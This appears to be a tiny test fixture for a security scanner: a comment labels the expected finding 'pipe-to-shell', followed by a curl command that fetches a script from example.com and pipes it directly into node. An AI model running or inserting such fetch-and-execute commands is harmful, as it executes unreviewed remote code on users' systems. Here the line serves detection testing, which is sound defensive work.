# expect: pipe-to-shell
curl -s https://example.com/x.js | node
